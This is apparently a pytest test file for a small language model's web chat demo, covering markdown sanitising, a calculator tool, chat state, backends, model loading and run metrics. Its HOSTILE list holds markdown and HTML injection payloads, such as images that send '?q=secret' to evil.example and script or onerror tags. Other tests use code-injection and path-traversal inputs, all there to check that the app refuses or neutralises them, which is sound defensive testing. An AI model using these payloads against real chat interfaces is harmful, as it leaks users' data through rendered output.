"""The web page without Streamlit: safe text, tools, the conversation and its thread, run folders, options."""

import json
import re
import sys
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
import torch
from hypothesis import given
from hypothesis import strategies as some
from markdown_it import MarkdownIt

from model.generation import Sampling, stream_generate
from model.model_lora import LoraConfig, add_lora, save_lora
from model.model_minimind import MiniMindConfig, MiniMindForCausalLM
from model.weights import WeightsError, load_tokenizer, save_weights
from scripts.chat_text import chat_ids
from scripts.web import chat_state, models, runs
from scripts.web.backends import ApiBackend, LocalBackend, openai_turns, served_models
from scripts.web.chat_state import Chat, Chats, ChatSettings, Message, fitted, newest_exchanges
from scripts.web.options import OWN_SERVER, parse_options
from scripts.web.safe_text import Part, parts, safe_markdown
from scripts.web.texts import LANGUAGES, TEXTS, figure_title, text
from scripts.web.tools import ToolCall, ToolError, calculate, days_between, run_tool, signatures, split_calls
from trainer.command_line import UserError

ROOT = Path(__file__).resolve().parents[1]


def tiny_model(seed: int = 0) -> MiniMindForCausalLM:
    torch.manual_seed(seed)
    config = MiniMindConfig(hidden_size=32, num_hidden_layers=2, num_attention_heads=4, num_key_value_heads=2)
    return MiniMindForCausalLM(config).eval()


@pytest.fixture(scope="module")
def tokenizer():
    return load_tokenizer()


@pytest.fixture(scope="module")
def backend(tokenizer):
    return LocalBackend(tiny_model(), tokenizer, "full_sft", 256)


def wait_until(true, seconds: float = 20.0) -> None:
    end = time.monotonic() + seconds
    while not true():
        assert time.monotonic() < end, "did not happen in time"
        time.sleep(0.005)


# --- Safe text --------------------------------------------------------------------------------------------------------

# Another parser than the browser's, with tables and bare addresses as there: what it finds is what a reader would see.
PARSER = MarkdownIt("commonmark", {"html": True}).enable("table")


def tokens_of(markdown: str) -> list:
    found = []
    for token in PARSER.parse(markdown):
        found += [token, *(token.children or [])]
    return found


HOSTILE = [
    "![x](https://evil.example/?q=secret)",
    "![x][r]\n\n[r]: https://evil.example/p.png",
    "[click](https://evil.example)",
    "[bank.example](https://evil.example)",
    "<img src=https://evil.example/x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "a <b onclick=alert(1)>b</b>",
    "<https://evil.example/?q=secret>",
    "\\![x](https://evil.example)",
    "\\\\![x](https://evil.example)",
    "\\`![x](https://evil.example)\\`",
    "`a | ![x](https://evil.example) | b`",
    "| a | b |\n|---|---|\n| `x | ![x](https://evil.example)` |",
    "``![x](https://evil.example)` `` ![y](https://evil.example)",
    "> - ![x](https://evil.example)",
    "~~~\n![x](https://evil.example)",
    "    ~~~\n    ```\n![x](https://evil.example)",
    "- ```\n  ![x](https://evil.example)\n  ```\n![y](https://evil.example)",
    "![x\n](https://evil.example)",
    "[^1]: ![x](https://evil.example)",
    ":red[x] :material/home: $\\href{https://evil.example}{x}$",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_hostile_survives_in_prose(text):
    for part in parts(text):
        if part.language is None:
            kinds = {token.type for token in tokens_of(part.text)}
            assert not kinds & {"image", "link_open", "html_inline", "html_block"}, part


@given(some.lists(some.sampled_from(["![", "](", "[", "]", "(", ")", "`", "``", "```", "~~~", "\\", "<", ">", "|", "\n",
                                     "\n\n", "    ", "- ", "> ", "x", "https://e.example", "|--|--|\n", "!", ":", "$"]),
                  max_size=24).map("".join))  # fmt: skip
def test_no_mixture_of_signs_makes_an_image_a_link_or_html(text):
    for part in parts(text):
        if part.language is None:
            kinds = {token.type for token in tokens_of(part.text)}
            assert not kinds & {"image", "link_open", "html_inline", "html_block", "fence"}, (text, part)


def test_without_the_guard_the_same_oracle_finds_images_and_links():
    kinds = {token.type for text in HOSTILE for token in tokens_of(text)}
    assert {"image", "link_open", "html_inline"} <= kinds


def shown(markdown: str) -> str:
    """What a reader sees of prose."""
    words = [token.content for token in tokens_of(markdown) if token.type in ("text", "code_inline")]
    return "".join(words)


@pytest.mark.parametrize("text", ["a[0] = b[1]", "1 < 2", "<answer>7</answer>", "it costs $5, not $6", "C:\\new", "~a~",
                                  "`x[0]` and [y]", "![x](u)", "a ` b"])  # fmt: skip
def test_prose_is_shown_as_it_was_written(text):
    assert shown(safe_markdown(text)) == text.replace("`x[0]`", "x[0]")


def test_markdown_that_only_looks_good_stays():
    kinds = {token.type for token in tokens_of(safe_markdown("# A\n\n- **b**\n- *c*\n\n|a|b|\n|-|-|\n|1|2|\n\n`d`"))}
    assert {"heading_open", "bullet_list_open", "strong_open", "em_open", "table_open", "code_inline"} <= kinds


def test_line_breaks_stay():
    assert [t.type for t in tokens_of(safe_markdown("春眠不觉晓\n处处闻啼鸟"))].count("hardbreak") == 1


def test_code_is_cut_out_and_left_alone():
    text = "See:\n```python\na[0] = `x`\n```\nand\n~~~\n<b>\n```"
    assert parts(text) == [Part("See:"), Part("a[0] = `x`", "python"), Part("and"), Part("<b>\n```", "")]


def test_control_characters_become_visible():
    assert parts("a\x00b\u202ec\ud800") == [Part("a\ufffdb\ufffdc?")]


def test_no_page_ever_allows_html():
    for path in [*(ROOT / "scripts" / "web").glob("*.py"), ROOT / "scripts" / "web_demo.py"]:
        code = path.read_text(encoding="utf-8")
        assert not re.search(r"unsafe_allow_\w+\s*=|st\.html|st\.iframe|components\.v1|\beval\(|\bexec\(", code), path


# --- Tools ------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("expression, value", [
    ("123 + 456", "579"), ("2 + 3 * 4", "14"), ("(2 + 3) * 4", "20"), ("7 - 2 - 1", "4"), ("2 ^ 3 ^ 2", "512"),
    ("-2 ** 2", "-4"), ("7 / 2", "3.5"), ("0.1 + 0.2", "0.3"), ("7 // 2", "3"), ("7 % 3", "1"), ("1e3 * 2", "2000"),
    ("sqrt(16) + abs(-2)", "6"), ("12×3÷4＝", "9"), ("2^-2", "0.25"), ("10^30", "1" + "0" * 30),
    ("1/3", "0.333333333333"),
])  # fmt: skip
def test_calculator(expression, value):
    assert calculate(expression) == value


@pytest.mark.parametrize("expression", [
    "", "1 +", "1 / 0", "2 ** 99999", "9**9**9**9", "(" * 300 + "1" + ")" * 300, "(" * 90 + "1" + ")" * 90, "1 2",
    "__import__('os')", "x", "open(1)", "sqrt(-1)", "1; 2", "(-8)^0.5", "exp(9999)", "1" * 201, "sqrt 4", "(1", "'a'*9",
    "0^-1", "10^999*10^999", "exp(700)*exp(700)",
])  # fmt: skip
def test_calculator_refuses_in_no_time(expression):
    start = time.perf_counter()
    with pytest.raises(ToolError):
        calculate(expression)
    assert time.perf_counter() - start < 0.5


@given(some.text(alphabet="0123456789+-*/%^(). e", max_size=40))
def test_calculator_gives_a_number_or_a_tool_error(expression):
    try:
        float(calculate(expression))
    except ToolError:
        pass


def test_days_between():
    assert days_between("2024-02-28", "2024-03-01") == "2"
    with pytest.raises(ToolError, match="expected dates"):
        days_between("yesterday", "2024-03-01")


@pytest.mark.parametrize("name, arguments, message", [
    ("rm", "{}", "no tool"), ("calculate", "{", "no valid JSON"), ("calculate", "{}", "takes the arguments"),
    ("calculate", '{"expression": 5}', "should be a string"), ("calculate", '["1"]', "takes the arguments"),
    ("current_time", '{"utc_offset_hours": 99}', "-14 to 14"), ("current_time", '{"utc_offset_hours": NaN}', "-14"),
    ("calculate", '{"expression": "1", "path": "/"}', "takes the arguments"), ("calculate", "[" * 100_000, "no valid"),
    ("current_time", '{"utc_offset_hours": true}', "should be a number"),
])  # fmt: skip
def test_impossible_calls_fail_with_a_reason(name, arguments, message):
    with pytest.raises(ToolError, match=message):
        run_tool(name, arguments)
    call = ToolCall(name, arguments)
    call.run()
    assert call.failed and call.result.startswith("error: ")


def test_calls_are_read_out_of_an_answer():
    said, calls = split_calls(
        'Let me see.\n<tool_call>\n{"name": "calculate", "arguments": {"expression": "1 + 2"}}\n</tool_call>\n'
        '<tool_call>{"name": "calculate", "argu'
    )
    assert said == "Let me see."
    assert [(call.name, call.arguments) for call in calls] == [
        ("calculate", '{"expression": "1 + 2"}'),
        ("calculate", '{"name": "calculate", "argu'),
    ]


def test_every_tool_has_a_signature_of_its_parameters():
    for signature in signatures():
        function = signature["function"]
        assert set(function["parameters"]["required"]) <= set(function["parameters"]["properties"])
        assert function["description"]


# --- What the model is shown ------------------------------------------------------------------------------------------


def talk(*texts: str) -> list[Message]:
    return [Message("user" if i % 2 == 0 else "assistant", said, finish="stop") for i, said in enumerate(texts)]


def test_newest_exchanges_never_cut_one():
    turns = [*talk("a", "b", "c"), Message("assistant", "", calls=[ToolCall("t", "{}")]), Message("tool", "1")]
    assert [turn.text for turn in newest_exchanges(turns, 0)] == ["c", "", "1"]
    assert [turn.text for turn in newest_exchanges(turns, 1)] == ["a", "b", "c", "", "1"]
    assert [turn.text for turn in newest_exchanges(turns, 9)] == ["a", "b", "c", "", "1"]


def test_old_exchanges_go_where_they_do_not_fit():
    encode = lambda messages: list(range(sum(len(m["content"]) for m in messages)))  # noqa: E731
    turns = talk("a" * 20, "b" * 20, "c" * 20, "d" * 20, "e" * 10)
    settings = ChatSettings(system="s" * 10, max_new_tokens=30, exchanges=5)
    assert [len(ids) for ids in (fitted(turns, settings, encode, 200)[0],)] == [100]
    ids, forgotten = fitted(turns, settings, encode, 100)  # 70 are left for the prompt: one exchange goes
    assert (len(ids), forgotten) == (60, 1)
    with pytest.raises(ValueError, match="20 tokens, and 20 fit"):
        fitted(turns, settings, encode, 20)


def test_the_prompt_is_that_of_the_chat_template(backend, tokenizer):
    settings = ChatSettings(system="Be brief.", thinking=False, tools=True)
    call = ToolCall("calculate", '{"expression": "1 + 2"}', "3")
    turns = [Message("user", "1 + 2?"), Message("assistant", "", calls=[call]), Message("tool", "3")]
    ids, forgotten = LocalBackend(backend.model, tokenizer, "full_sft", 2048).prompt(turns, settings, signatures())
    expected = tokenizer.apply_chat_template(
        [{"role": "system", "content": "Be brief."}, {"role": "user", "content": "1 + 2?"},
         {"role": "assistant", "content": "", "tool_calls": [{"name": "calculate",
                                                              "arguments": {"expression": "1 + 2"}}]},
         {"role": "tool", "content": "3"}],
        tools=signatures(), add_generation_prompt=True, enable_thinking=False, return_dict=False,
    )  # fmt: skip
    assert (ids, forgotten) == (expected, 0)


# --- Answers of local weights -----------------------------------------------------------------------------------------


def answer(backend, question: str, settings: ChatSettings) -> Message:
    return list(backend.stream([Message("user", question)], settings, None))[-1]


def test_an_answer_is_that_of_the_decoder_alone_and_in_company(backend, tokenizer):
    settings = ChatSettings(max_new_tokens=24, temperature=0)
    questions = ["Hello", "你好", "What is 2 + 2?", "x", "春天", "long " * 20]
    expected = []
    for question in questions:
        ids = torch.tensor([chat_ids(tokenizer, [{"role": "user", "content": question}], None)])
        drawn = stream_generate(
            backend.model, ids, temperature=0.0, max_new_tokens=24, stop_ids=frozenset(backend.stop_ids)
        )
        expected.append(len(list(drawn)))
    alone = [answer(backend, question, settings) for question in questions]
    assert [message.tokens for message in alone] == expected
    together: dict[str, Message] = {}
    threads = [
        threading.Thread(target=lambda q=q: together.update({q: answer(backend, q, settings)}), daemon=True)
        for q in questions
    ]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(30)
    assert [together[q].text for q in questions] == [message.text for message in alone]
    assert not backend.decoder.busy


def test_steps_of_others_lose_no_token(backend, tokenizer):
    """A visitor who is slow to take his tokens, while another's steps write on for both."""
    ids = chat_ids(tokenizer, [{"role": "user", "content": "Hello"}], None)
    sampling = Sampling(temperature=0, max_new_tokens=24, stop_ids=backend.stop_ids)
    alone = list(backend.draw(ids, sampling))
    slow = backend.draw(ids, sampling)
    taken = [next(slow)]
    assert list(backend.draw(ids, sampling)) == alone
    assert taken + list(slow) == alone and not backend.decoder.busy


def test_the_settings_reach_the_sampler(backend, monkeypatch):
    seen = []
    add = backend.decoder.add
    monkeypatch.setattr(backend.decoder, "add", lambda ids, sampling: seen.append(sampling) or add(ids, sampling))
    settings = ChatSettings(
        temperature=0.3, top_p=0.5, top_k=7, min_p=0.1, repetition_penalty=1.2, max_new_tokens=3, seed=5
    )
    first, again = answer(backend, "Hi", settings), answer(backend, "Hi", settings)
    sampling = seen[0]
    assert (sampling.temperature, sampling.top_p, sampling.top_k, sampling.min_p) == (0.3, 0.5, 7, 0.1)
    assert (sampling.repetition_penalty, sampling.max_new_tokens, sampling.seed) == (1.2, 3, 5)
    assert first.text == again.text and first.finish == "length" and first.tokens == 3
    answer(backend, "Hi", ChatSettings(max_new_tokens=1))
    answer(backend, "Hi", ChatSettings(max_new_tokens=1))
    assert seen[2].seed != seen[3].seed


def test_closing_an_answer_frees_its_place(backend):
    stream = backend.stream([Message("user", "Hi")], ChatSettings(max_new_tokens=200), None)
    next(stream)
    assert backend.decoder.busy
    stream.close()
    assert not backend.decoder.busy


def test_a_question_that_is_too_long_says_so(backend):
    with pytest.raises(UserError, match="tokens, and 256 fit"):
        answer(backend, "word " * 500, ChatSettings())


def test_a_pretrained_model_continues_the_text(tokenizer):
    backend = LocalBackend(tiny_model(), tokenizer, "pretrain", 64)
    assert backend.continues_text
    ids, _ = backend.prompt([*talk("a", "b"), Message("user", "Once")], ChatSettings(system="x"), None)
    assert ids == [tokenizer.bos_token_id, *tokenizer.encode("Once", add_special_tokens=False)]
    with pytest.raises(UserError, match="64 fit"):
        backend.prompt([Message("user", "word " * 99)], ChatSettings(), None)


def test_weights_that_are_not_numbers_end_in_an_error(tokenizer):
    model = tiny_model()
    model.model.norm.weight.data.fill_(float("nan"))
    with pytest.raises(WeightsError, match="not a number"):
        answer(LocalBackend(model, tokenizer, "full_sft", 64), "Hi", ChatSettings())


# --- The conversation -------------------------------------------------------------------------------------------------


class Script:
    """A backend that says what it was told to, and waits where a gate is given."""

    continues_text = False

    def __init__(self, *answers: str, gate: threading.Event | None = None):
        self.answers, self.gate, self.asked, self.closed = list(answers), gate, [], 0

    def stream(self, turns, settings, tools):
        self.asked.append((list(turns), settings, tools))
        said = self.answers.pop(0)
        try:
            if said == "FAIL":
                raise RuntimeError("no more memory")
            for end in range(1, len(said) + 1):
                text, calls = split_calls(said[:end])
                yield Message("assistant", text, calls=calls, tokens=end)
                if self.gate and end == 3:
                    self.gate.wait(10)
            text, calls = split_calls(said)
            yield Message("assistant", text, calls=calls, tokens=len(said), finish="stop")
        finally:
            self.closed += 1


def finish(chat: Chat) -> Chat:
    chat.job.thread.join(20)
    assert not chat.job.thread.is_alive()
    return chat


def said(chat: Chat) -> list[tuple[str, str]]:
    return [(message.role, message.text) for message in chat.messages]


def test_a_question_is_answered_and_remembered():
    chat, backend = Chat(), Script("one", "two")
    chat.send("a", backend)
    finish(chat).send("b", backend)
    assert said(finish(chat)) == [("user", "a"), ("assistant", "one"), ("user", "b"), ("assistant", "two")]
    assert [turn.text for turn in backend.asked[1][0]] == ["a", "one", "b"]
    assert not chat.busy and chat.messages[-1].finish == "stop"


def test_regenerate_edit_delete_clear():
    chat, backend = Chat(), Script("one", "two", "three", "four")
    chat.send("a", backend)
    finish(chat).regenerate(backend)
    assert said(finish(chat)) == [("user", "a"), ("assistant", "two")]
    chat.send("b", backend)
    finish(chat).edit(0, "c", backend)
    assert said(finish(chat)) == [("user", "c"), ("assistant", "four")]
    chat.messages += talk("d", "e")
    chat.delete(0)
    assert said(chat) == [("user", "d"), ("assistant", "e")]
    chat.clear()
    assert chat.messages == [] and not chat.busy


def test_stop_keeps_what_was_said_and_nothing_changes_after():
    gate = threading.Event()
    chat, backend = Chat(), Script("abcdef", gate=gate)
    chat.send("a", backend)
    wait_until(lambda: said(chat)[-1] == ("assistant", "abc"))
    assert chat.busy
    chat.stop()
    assert not chat.busy
    gate.set()
    finish(chat)
    assert said(chat)[-1] == ("assistant", "abc") and chat.messages[-1].finish == "stopped" and backend.closed == 1


def test_a_new_question_ends_the_answer_before():
    gate = threading.Event()
    chat, backend = Chat(), Script("abcdef", "two", gate=gate)
    chat.send("a", backend)
    wait_until(lambda: said(chat)[-1] == ("assistant", "abc"))
    old = chat.job
    backend.gate = None
    chat.send("b", backend)
    gate.set()
    old.thread.join(20)
    assert said(finish(chat)) == [("user", "a"), ("assistant", "abc"), ("user", "b"), ("assistant", "two")]


def test_an_answer_that_nobody_watches_ends(monkeypatch):
    monkeypatch.setattr(chat_state, "UNWATCHED_SECONDS", -1.0)
    chat = Chat()
    chat.send("a", Script("abcdef"))
    assert finish(chat).messages[-1].finish == "stopped" and said(chat)[-1][1] == "a"


def test_an_error_is_told_and_the_next_question_works(capsys):
    chat, backend = Chat(), Script("FAIL", "fine")
    chat.send("a", backend)
    assert (finish(chat).messages[-1].finish, chat.messages[-1].error) == ("error", "no more memory")
    assert "RuntimeError" in capsys.readouterr().err
    chat.send("b", backend)
    assert said(finish(chat))[-1] == ("assistant", "fine")


CALL = '<tool_call>\n{"name": "calculate", "arguments": {"expression": "123 + 456"}}\n</tool_call>'


def test_tools_are_called_and_the_model_goes_on():
    chat, backend = Chat(), Script(CALL, "It is 579.")
    chat.settings = ChatSettings(tools=True)
    chat.send("123 + 456?", backend)
    assert [role for role, _ in said(finish(chat))] == ["user", "assistant", "tool", "assistant"]
    assert chat.messages[1].calls[0].result == "579" == chat.messages[2].text
    assert backend.asked[1][2] == signatures() and [turn.role for turn in backend.asked[1][0]][-1] == "tool"


def test_tools_end_after_some_rounds_and_do_nothing_when_off():
    chat, backend = Chat(), Script(*[CALL] * 20)
    chat.settings = ChatSettings(tools=True)
    chat.send("a", backend)
    finish(chat)
    assert len(backend.asked) == chat_state.MOST_ROUNDS
    chat, backend = Chat(), Script(CALL)
    chat.send("a", backend)
    finish(chat)
    assert [role for role, _ in said(chat)] == ["user", "assistant"] and backend.asked[0][2] is None


def test_chats_are_found_by_an_unguessable_name_only():
    chats = Chats(most=2)
    name, chat = chats.get(None)
    assert len(name) >= 20 and chats.get(name) == (name, chat)
    other, another = chats.get("../../etc/passwd")
    assert other != "../../etc/passwd" and another is not chat
    chats.get(name)
    chats.get(None)  # the one used longest ago goes
    assert chats.get(name)[1] is chat and chats.get(other)[0] != other


def test_export_to_read_and_to_train_on(tmp_path, tokenizer):
    from dataset.record_formats import parse_sft

    chat = Chat()
    chat.settings = ChatSettings(system="Be brief.", tools=True)
    call = ToolCall("calculate", '{"expression": "1 + 2"}', "3")
    chat.messages = [Message("user", "1 + 2?"), Message("assistant", "", "Let me see.", [call]), Message("tool", "3"),
                     Message("assistant", "<answer>\n3\n</answer>")]  # fmt: skip
    messages, tools = parse_sft(json.loads(chat_state.as_record(chat)))
    assert [m["role"] for m in messages] == [
        "system",
        "user",
        "assistant",
        "tool",
        "assistant",
    ] and tools == signatures()
    assert messages[2]["reasoning_content"] == "Let me see."
    assert messages[2]["tool_calls"][0]["arguments"] in ({"expression": "1 + 2"}, '{"expression": "1 + 2"}')
    readable = chat_state.as_markdown(chat, "m.pth")
    assert all(part in readable for part in ("# m.pth", "1 + 2?", "> Let me see.", "calculate(", "\n3\n", "Be brief."))
    assert "<answer>" not in readable


# --- A server ---------------------------------------------------------------------------------------------------------


class FakeServer(BaseHTTPRequestHandler):
    """An OpenAI API that streams a thought, a call and words; it keeps the bodies it was sent."""

    bodies: list[dict] = []
    status = 200

    def log_message(self, *args):
        pass

    def reply(self, kind: str, body: bytes) -> None:
        self.send_response(self.status)
        self.send_header("Content-Type", kind)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def do_GET(self):
        self.reply(
            "application/json", json.dumps({"object": "list", "data": [{"id": "m", "object": "model"}]}).encode()
        )

    def do_POST(self):
        self.bodies.append(json.loads(self.rfile.read(int(self.headers["Content-Length"]))))
        if self.status != 200:
            return self.reply("application/json", b'{"error": {"message": "the queue is full"}}')
        deltas = [
            {"reasoning_content": "Hm"}, {"content": "It "},
            {"tool_calls": [{"index": 0, "id": "c", "type": "function",
                             "function": {"name": "calculate", "arguments": '{"expr'}}]},
            {"tool_calls": [{"index": 0, "function": {"arguments": 'ession": "1"}'}}]}, {"content": "is 1."},
        ]  # fmt: skip
        choices = [[{"index": 0, "delta": delta, "finish_reason": None}] for delta in deltas]
        choices.append([{"index": 0, "delta": {}, "finish_reason": "stop"}])
        about = {"id": "x", "object": "chat.completion.chunk", "created": 1, "model": "m"}
        chunks = [{**about, "choices": choice} for choice in choices]
        usage = {"prompt_tokens": 5, "completion_tokens": 42, "total_tokens": 47}
        chunks.append({**about, "choices": [], "usage": usage})
        self.reply(
            "text/event-stream", "".join(f"data: {json.dumps(c)}\n\n" for c in chunks).encode() + b"data: [DONE]\n\n"
        )


@pytest.fixture
def server():
    pytest.importorskip("openai", reason="the openai package is not installed")
    handler = type("Handler", (FakeServer,), {"bodies": []})
    httpd = ThreadingHTTPServer(("127.0.0.1", 0), handler)
    thread = threading.Thread(target=httpd.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{httpd.server_port}/v1", handler
    httpd.shutdown()
    httpd.server_close()
    thread.join(10)


def test_an_answer_of_a_server(server):
    url, handler = server
    assert served_models(url, None) == ["m"]
    settings = ChatSettings(system="S", temperature=0.5, max_new_tokens=9, top_k=4, thinking=True, seed=3, exchanges=0)
    turns = [*talk("old", "older"), Message("user", "1?")]
    last = list(ApiBackend(url, "m").stream(turns, settings, signatures()))[-1]
    assert (last.thought, last.text, last.finish, last.tokens) == ("Hm", "It is 1.", "stop", 42)
    assert [(call.name, call.arguments) for call in last.calls] == [("calculate", '{"expression": "1"}')]
    body = handler.bodies[0]
    assert [(m["role"], m["content"]) for m in body["messages"]] == [("system", "S"), ("user", "1?")]
    assert (body["temperature"], body["max_tokens"], body["seed"], body["top_k"]) == (0.5, 9, 3, 4)
    assert body["chat_template_kwargs"] == {"enable_thinking": True} and body["tools"] == signatures()
    assert "min_p" not in body and "repetition_penalty" not in body


def test_a_server_that_refuses_or_is_silent(server):
    url, handler = server
    handler.status = 429
    with pytest.raises(UserError, match="says: the queue is full$"):
        answer(ApiBackend(url, "m"), "Hi", ChatSettings())
    with pytest.raises(UserError, match="does not answer"):
        served_models("http://127.0.0.1:9/v1", None)


def test_a_server_without_the_openai_package(monkeypatch):
    monkeypatch.setitem(sys.modules, "openai", None)  # importing it fails
    with pytest.raises(UserError, match="pip install openai"):
        served_models("http://127.0.0.1:9/v1", None)


def test_results_of_tools_name_their_calls():
    turns = chat_state.template_turns(
        [Message("user", "q"), Message("assistant", "", calls=[ToolCall("a", "{}"), ToolCall("b", "{}")]),
         Message("tool", "1"), Message("tool", "2")], "")  # fmt: skip
    made = openai_turns(turns)
    ids = [call["id"] for call in made[1]["tool_calls"]]
    assert [made[2]["tool_call_id"], made[3]["tool_call_id"]] == ids and len(set(ids)) == 2
    assert made[1]["tool_calls"][0]["function"] == {"name": "a", "arguments": "{}"}


# --- Finding models ---------------------------------------------------------------------------------------------------


def test_models_and_adapters_are_found_below_out(tmp_path):
    model = tiny_model()
    save_weights(model, tmp_path / "full_sft_32.pth", {"stage": "full_sft"})
    save_weights(model, tmp_path / "pretrain_32.pth", {"stage": "pretrain"})
    save_weights(model, tmp_path / "reward_32.pth", {"stage": "reward"})
    model.save_pretrained(tmp_path / "folder")
    (tmp_path / "cut.pth").write_bytes(b"")
    add_lora(model, LoraConfig(rank=2))
    save_lora(model, tmp_path / "lora" / "mine_32.pth", LoraConfig(rank=2))
    found = {choice.name: choice for choice in models.find_models(tmp_path)}
    assert set(found) == {"full_sft_32.pth", "pretrain_32.pth", "folder", "cut.pth"}
    assert found["pretrain_32.pth"].stage == "pretrain" and found["full_sft_32.pth"].width == 32
    (adapter,) = models.find_adapters(tmp_path, found["full_sft_32.pth"])
    assert adapter.name == "mine_32"
    loaded = models.load(found["full_sft_32.pth"], adapter, "cpu", 64)
    assert loaded.parameters > sum(p.numel() for p in tiny_model().parameters()) and loaded.max_seq_len == 64
    assert models.load(found["folder"], None, "cpu", 64).parameters > 0
    with pytest.raises(WeightsError, match="cut off"):
        models.load(found["cut.pth"], None, "cpu", 64)
    other = models.Choice("x", tmp_path, 1, width=64, layers=2)
    assert models.find_adapters(tmp_path, other) == []
    assert models.find_models(tmp_path / "missing") == []


# --- Options and texts ------------------------------------------------------------------------------------------------


def test_options(tmp_path, monkeypatch):
    monkeypatch.setenv("MINIMIND_API_KEY", "k")
    options = parse_options(["--out_dir", str(tmp_path), "--api_url", "http://h/v1", "--model", str(tmp_path)])
    assert (options.out_dir, options.servers, options.servers_named) == (tmp_path, ("http://h/v1",), True)
    assert options.models == (tmp_path,) and options.key == "k"
    assert parse_options([]).servers == (OWN_SERVER,) and not parse_options([]).servers_named


@pytest.mark.parametrize("argv", [["--nonsense"], ["--api_url", "file:///etc/passwd"], ["--model", "/nowhere/at/all"],
                                  ["--max_seq_len", "2"]])  # fmt: skip
def test_wrong_options_say_what_to_type(argv):
    with pytest.raises(UserError, match="streamlit run scripts/web_demo.py -- --out_dir out"):
        parse_options(argv)


def test_every_text_stands_in_both_languages_with_the_same_blanks():
    assert list(LANGUAGES) == ["en", "zh"]
    for key, (english, chinese) in TEXTS.items():
        assert english and chinese, key
        blanks = [re.findall(r"{(\w+)[^}]*}", said) for said in (english, chinese)]
        assert sorted(blanks[0]) == sorted(blanks[1]), key
    used = set()
    for path in (ROOT / "scripts" / "web").glob("*.py"):
        used |= set(re.findall(r'say\("(\w+)"', path.read_text(encoding="utf-8")))
    assert used and used <= set(TEXTS)
    assert text("zh", "note_forgotten", count=2).startswith("2") and figure_title("en", "odd_name") == "odd name"


# --- Run folders ------------------------------------------------------------------------------------------------------


def write_run(folder: Path, records: list[dict], facts: dict | None = None) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    lines = "".join(json.dumps(record) + "\n" for record in records)
    (folder / "metrics.jsonl").write_text(lines, encoding="utf-8")
    if facts is not None:
        (folder / "step_00000002.json").write_text(json.dumps(facts), encoding="utf-8")
    return folder


def test_a_growing_file_is_read_to_its_last_whole_line(tmp_path):
    path = write_run(tmp_path / "r", [{"step": 1, "loss": 2.0}]) / "metrics.jsonl"
    tail = runs.Tail(path)
    assert [r["step"] for r in tail.read()] == [1]
    before = tail.read()
    with open(path, "ab") as file:
        file.write('{"step": 2, "loss": 1.5, "说": "半'.encode()[:-1])
    assert [r["step"] for r in tail.read()] == [1]
    with open(path, "ab") as file:
        file.write('半"}\nnull\n[1]\n{"loss": 1}\ngarbage\n{"step": 3}\n'.encode()[2:])
    assert [r["step"] for r in tail.read()] == [1, 2, 3] and len(before) == 1
    replaced = tmp_path / "new"
    replaced.write_text('{"step": 7}\n', encoding="utf-8")
    replaced.replace(path)
    assert [r["step"] for r in tail.read()] == [7]
    path.unlink()
    assert tail.read() == []


def test_runs_are_found_newest_first_and_kept(tmp_path):
    import os

    for i, name in enumerate(("a_32", "b_32", "c_32")):
        folder = write_run(tmp_path / "runs" / name, [{"step": 1}])
        os.utime(folder / "metrics.jsonl", (1000 + i, 1000 + i))
    write_run(tmp_path / "other" / "runs" / "d_32", [])
    all_runs = runs.Runs(tmp_path)
    found = all_runs.find()
    assert list(found)[1:] == ["c_32", "b_32", "a_32"] and set(found) == {"a_32", "b_32", "c_32", "other/d_32"}
    assert all_runs.find()["a_32"] is found["a_32"]
    assert runs.Runs(tmp_path / "missing").find() == {}


RECORDS = [
    {"step": 10, "loss": 4.0, "lr": 0.1, "tokens": 100, "time": 1000.0, "tokens_per_second": 10.0, "eta_seconds": 90.0,
     "mfu": None, "expert_load": [[0.1, 0.9], [0.5, 0.5]]},
    {"step": 10, "val_loss": 3.5, "val_bpb": 1.5},
    {"step": 20, "loss": 2.0, "lr": 0.2, "tokens": 200, "time": 4600.0, "tokens_per_second": 10.0, "eta_seconds": 80.0},
    {"step": 20, "val_loss": 2.5, "val_accuracy": 0.5, "odd": "text", "yes": True},
]  # fmt: skip


def test_curves():
    assert runs.figures([RECORDS]) == [
        "loss", "bpb", "accuracy", "experts_least", "experts_most", "lr", "tokens_per_second",
    ]  # fmt: skip
    assert runs.curve(RECORDS, "loss", "step") == [(10, 4.0), (20, 2.0)]
    assert runs.curve(RECORDS, "val_loss", "tokens") == [(100, 3.5), (200, 2.5)]
    assert runs.curve(RECORDS, "val_loss", "hours") == [(0, 3.5), (1, 2.5)]
    assert runs.curve(RECORDS, "experts_least", "step") == [(10, 0.1)]
    parts_of = [(row["part"], row["x"], row["value"]) for row in runs.rows("r", RECORDS, "loss", "step", 0.0)]
    assert parts_of == [("training", 10, 4.0), ("training", 20, 2.0), ("held_out", 10, 3.5), ("held_out", 20, 2.5)]


def test_smoothing_by_hand():
    assert runs.smoothed([4.0, 2.0, 2.0], 0.0) == [4.0, 2.0, 2.0]
    # s1 = 0.5·4 = 2, /0.5 = 4; s2 = 1 + 1 = 2, /0.75 = 8/3; s3 = 1 + 1 = 2, /0.875 = 16/7
    assert runs.smoothed([4.0, 2.0, 2.0], 0.5) == pytest.approx([4.0, 8 / 3, 16 / 7])
    smooth = [row for row in runs.rows("r", RECORDS, "loss", "step", 0.5) if row["part"] == "training"]
    assert [row["raw"] for row in smooth] == [4.0, 2.0] and smooth[1]["value"] == pytest.approx(8 / 3)
    held_out = [row["value"] for row in runs.rows("r", RECORDS, "loss", "step", 0.5) if row["part"] == "held_out"]
    assert held_out == [3.5, 2.5]


def test_long_curves_are_thinned_to_their_ends():
    points = [(float(i), 1.0) for i in range(100_000)]
    thin = runs.thinned(points, 500)
    assert (
        len(thin) == 500 and thin[0] == points[0] and thin[-1] == points[-1] and runs.thinned(points[:9]) == points[:9]
    )


def test_how_a_run_stands(tmp_path):
    import os

    facts = {
        "progress": {"step": 20, "finished": True},
        "signature": {"total_steps": 20},
        "config": {"hidden_size": 32},
    }
    write_run(tmp_path / "runs" / "a", RECORDS, facts)
    running = write_run(tmp_path / "runs" / "b", RECORDS)
    write_run(tmp_path / "runs" / "empty", [])
    os.utime(running / "metrics.jsonl", (50_000, 50_000))
